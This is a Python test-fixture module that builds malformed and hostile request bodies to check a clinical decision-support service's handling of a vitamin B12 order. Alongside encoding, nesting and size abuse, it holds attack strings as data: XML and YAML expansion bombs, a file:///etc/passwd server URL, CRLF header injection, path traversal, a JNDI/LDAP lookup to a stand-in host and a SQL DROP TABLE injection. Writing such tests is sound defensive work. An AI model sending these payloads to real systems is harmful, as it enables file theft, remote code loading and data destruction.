"""What a hostile or broken client sends: bodies written by hand, and wrong values everywhere.

``BODIES`` are whole bodies by name; ``misfits`` puts values of every wrong kind in the place of
every value of a good request.
"""

from __future__ import annotations

import codecs
import gzip
import itertools
import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

STORIES = Path(__file__).parents[2] / "fhir_samples" / "b12_under_two"
#: A story for every hook, between them with each kind of resource that is read.
OF_HOOK = {
    "patient-view": ("neuro-on-oral-therapy", "allergy-to-cobalamin", "dstu2-shaped-record"),
    "order-select": ("order-select-oral-in-crohn",),
    "order-sign": ("order-sign-milligrams-for-micrograms", "order-sign-dose-range"),
}


def request_of(story: str) -> dict[str, Any]:
    sent = json.loads((STORIES / story / "request.json").read_text(encoding="utf-8"))
    assert isinstance(sent, dict)
    return sent


GOOD = json.dumps(request_of("order-sign-milligrams-for-micrograms"))


def _with(member: str) -> bytes:
    """The good request with more members, as text: they may repeat others."""
    return f"{GOOD[:-1]}, {member}}}".encode()


def _dose(value: str) -> bytes:
    assert GOOD.count('"value": 1000,') == 1
    return GOOD.replace('"value": 1000,', f'"value": {value},').encode()


def _deep(opening: str, closing: str, depth: int, inside: str = "1") -> str:
    return opening * depth + inside + closing * depth


_DIGITS = "9" * 100_000
_TEXT = "ha" * 1_000_000

BODIES: dict[str, bytes] = {
    # no JSON
    "nothing": b"",
    "a blank": b" ",
    "a NUL": b"\0",
    "half a body": GOOD[: len(GOOD) // 2].encode(),
    "all but the last brace": GOOD[:-1].encode(),
    "two bodies": (GOOD + GOOD).encode(),
    "a comma too many": (GOOD[:-1] + ",}").encode(),
    "single quotes": GOOD.replace('"', "'").encode(),
    "a comment": ("/* x */" + GOOD).encode(),
    "XML": b"<?xml version='1.0'?><Bundle/>",
    "XML that laughs": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>',
    "a form": b"hook=patient-view&context=x",
    "YAML that laughs": b"a: &a [x,x]\nb: &b [*a,*a]\n",
    "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
    "gzip without saying so": gzip.compress(GOOD.encode()),
    # no text
    "UTF-16": GOOD.encode("utf-16"),
    "UTF-32": GOOD.encode("utf-32"),
    "Latin-1": _with('"x": "µ"').decode().encode("latin-1"),
    "a byte order mark": codecs.BOM_UTF8 + GOOD.encode(),
    "an overlong slash": _with('"x": "').replace(b'"x": "}', b'"x": "\xc0\xaf"}'),
    "a surrogate in UTF-8": _with('"x": "').replace(b'"x": "}', b'"x": "\xed\xa0\x80"}'),
    "a cut sign": _with('"x": "').replace(b'"x": "}', b'"x": "\xe2\x82"}'),
    "0xFF everywhere": b"\xff" * 10_000,
    "a lone surrogate": _with('"x": "\\ud800"'),
    "a lone surrogate in an order": GOOD.replace("by mouth", "\\udfff").encode(),
    "a NUL in a text": GOOD.replace("by mouth", "\\u0000").encode(),
    "a NUL in an id": GOOD.replace('"draft-1"', '"a\\u0000b"').encode(),
    "raw control characters": GOOD.replace("by mouth", "\x01\x02").encode(),
    "a line break in a text": GOOD.replace("by mouth", "\n").encode(),
    # another shape
    "null": b"null",
    "a number": b"1",
    "a text": b'"patient-view"',
    "an empty array": b"[]",
    "an empty object": b"{}",
    "the request in an array": f"[{GOOD}]".encode(),
    "a nameless member": _with('"": 1'),
    "prototype members": _with('"__proto__": {"x": 1}, "constructor": {}, "__class__": "x"'),
    # depth
    "arrays in arrays": _deep("[", "]", 100_000).encode(),
    "objects in objects": _deep('{"a":', "}", 100_000).encode(),
    "arrays that never end": b"[" * 1_000_000,
    "objects that never end": b'{"a":' * 500_000,
    "a deep member": _with('"x": ' + _deep("[", "]", 50_000)),
    "a deep extension": _with('"extension": ' + _deep('{"extension":[', "]}", 20_000, "{}")),
    "a deep order": _with('"context": ' + json.dumps(json.loads(GOOD)["context"])[:-1]
        + ', "draftOrders": ' + _deep('{"contained":[', "]}", 5_000, "{}") + "}"),
    "a deep prefetch": _with('"prefetch": {"b12": ' + _deep("[", "]", 50_000) + "}"),
    "a deep coding": _with('"prefetch": {"patient": {"resourceType": "Patient", "id": "x", "a": '
                           + _deep('{"concept":', "}", 5_000) + "}}"),
    "depth just under the stack": _with('"x": ' + _deep("[", "]", 400)),
    # numbers
    "a dose of 1e400": _dose("1e400"),
    "a dose of -1e400": _dose("-1e400"),
    "a dose of 1E+999999": _dose("1E+999999"),
    "a dose of 1E-999999": _dose("1E-999999"),
    "a dose of 1E+999999999999": _dose("1E+999999999999"),
    "a dose of 100 000 digits": _dose(_DIGITS),
    "a dose of 100 000 decimals": _dose("0." + _DIGITS),
    "a dose that is not a number": _dose("NaN"),
    "an infinite dose": _dose("Infinity"),
    "a dose of minus infinity": _dose("-Infinity"),
    "a dose in words": _dose('"NaN"'),
    "a dose of sNaN": _dose('"sNaN"'),
    "a dose in octal": _dose("01000"),
    "a dose in hexadecimal": _dose("0x3E8"),
    "a dose with a plus": _dose("+1000"),
    "a dose below nothing": _dose("-1000"),
    "a dose of minus nothing": _dose("-0.0"),
    "a dose beyond 64 bits": _dose("18446744073709551616"),
    "a dose of more digits than are rounded": _dose("9" * 22),
    "a dose of as many digits as are read": _dose("9" * 30),
    "a dose of next to nothing": _dose("0." + "0" * 26 + "1"),
    "a dose with underscores": _dose('"1_000"'),
    "a dose in other digits": _dose('"\uff11\uff10\uff10\uff10"'),
    # twice
    "two hooks": _with('"hook": "patient-view"'),
    "two contexts": _with('"context": {}'),
    "two doses": _dose('1, "value": 1000000'),
    "ten thousand hooks": _with(", ".join(['"hook": "order-sign"'] * 10_000)),
    # much
    "a million letters": _with(f'"x": "{_TEXT}"'),
    "a long name": _with(f'"{_TEXT}": 1'),
    "a long hookInstance": _with(f'"hookInstance": "{_TEXT}"'),
    "a long userId": _with('"context": {"userId": "' + _TEXT + '", "patientId": "x"}'),
    "a long patientId": _with('"context": {"userId": "x", "patientId": "' + _TEXT + '"}'),
    "a long drug name": GOOD.replace("vitamin B12 1 MG/ML Oral", "000 " * 200_000).encode(),
    "a long unit": GOOD.replace('"unit": "mg"', f'"unit": "a{" " * 1_000_000}b"').encode(),
    "a long order id": GOOD.replace('"draft-1"', f'"{_TEXT}"').encode(),
    "a hundred thousand members": _with(", ".join(f'"x{n}": 1' for n in range(100_000))),
    "a hundred thousand prefetch keys": _with(
        '"prefetch": {' + ", ".join(f'"x{n}": null' for n in range(100_000)) + "}"),
    "a hundred thousand selections": _with(
        '"context": {"userId": "x", "patientId": "x", "selections": ['
        + ", ".join(f'"MedicationRequest/{n}"' for n in range(100_000)) + "]}"),
    "a hundred thousand empty entries": _with(
        '"prefetch": {"b12": {"resourceType": "Bundle", "entry": [' + ",".join(["{}"] * 100_000)
        + "]}}"),
    "a million nulls": _with('"x": [' + ",".join(["null"] * 900_000) + "]"),
    "one key a hundred thousand times": _with(", ".join(['"x": 1'] * 100_000)),
    "one more byte than allowed": GOOD.encode() + b" " * (5_000_001 - len(GOOD.encode())),
    # elsewhere
    "a FHIR server that is a file": _with('"fhirServer": "file:///etc/passwd"'),
    "a FHIR server with a line break": _with('"fhirServer": "http://x\\r\\nHost: y"'),
    "a token with a line break": _with(
        '"fhirServer": "https://x.example", "fhirAuthorization": {"access_token": "a\\r\\nB: c"}'),
    "a token without a server": _with('"fhirAuthorization": {"access_token": "a"}'),
    "a patient that is a path": _with('"context": {"userId": "x", "patientId": "../../metadata"}'),
    "a patient that is a query": _with('"context": {"userId": "x", "patientId": "x?_id=y"}'),
    "a format string": GOOD.replace("by mouth", "{0.__class__} %s %n {level}").encode(),
    "a template": GOOD.replace("by mouth", "{{7*7}} ${jndi:ldap://x.example/a}").encode(),
    "SQL": GOOD.replace("by mouth", "'; DROP TABLE consultations; --").encode(),
}  # fmt: skip

#: In the place of any value: each kind of JSON, its ends, and what has a meaning somewhere.
MISFITS = (
    "null", "true", "0", "-1", "1.5", "1e-7", "1e400", "1E+999999", "1E-999999999",
    "18446744073709551616", "9" * 5_000, '""', '" "', '"x"', '"NaN"', '"Infinity"', '"1E+999999"',
    '"\\u0000"', '"\\ud800"', '"\\u202e"', '"0001-01-01"', '"9999-12-31"', '"2026-02-30"', '"9999"',
    '"9999-12-31T23:59:60-14:00"', '"0001-01-01T00:00:00+14:00"', '"Patient/"', '"../.."',
    '"%s{0}{{x}}"', '"' + "x" * 5_000 + '"', "[]", "{}", "[[]]", "[{}]", "[null]", '["x"]',
    '{"": null}', '{"value": 1e999}', '{"reference": "#"}', '{"resourceType": "Bundle"}',
    "[[[[[[[[[[]]]]]]]]]]",
)  # fmt: skip
_HOLE = "\u2603hole\u2603"


def places(sent: Any, here: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """The path to every value but the whole."""
    inside: Sequence[Any] = ()
    if isinstance(sent, dict):
        inside = list(sent.items())
    elif isinstance(sent, list):
        inside = list(enumerate(sent))
    for name, value in inside:
        yield (*here, name)
        yield from places(value, (*here, name))


def misfits(story: str, of_each: int) -> Iterator[tuple[str, bytes]]:
    """The story's request with one value replaced, and where and what it is; ``of_each`` values
    at each place, in turn, or all that there are."""
    turning = itertools.cycle(MISFITS)
    for path in places(request_of(story)):
        sent: Any = request_of(story)
        parent = sent
        for name in path[:-1]:
            parent = parent[name]
        parent[path[-1]] = _HOLE
        text = json.dumps(sent, ensure_ascii=False)
        for misfit in itertools.islice(turning, min(of_each, len(MISFITS))):
            name = f"{'.'.join(map(str, path))} = {misfit[:30]}"
            yield name, text.replace(f'"{_HOLE}"', misfit).encode()
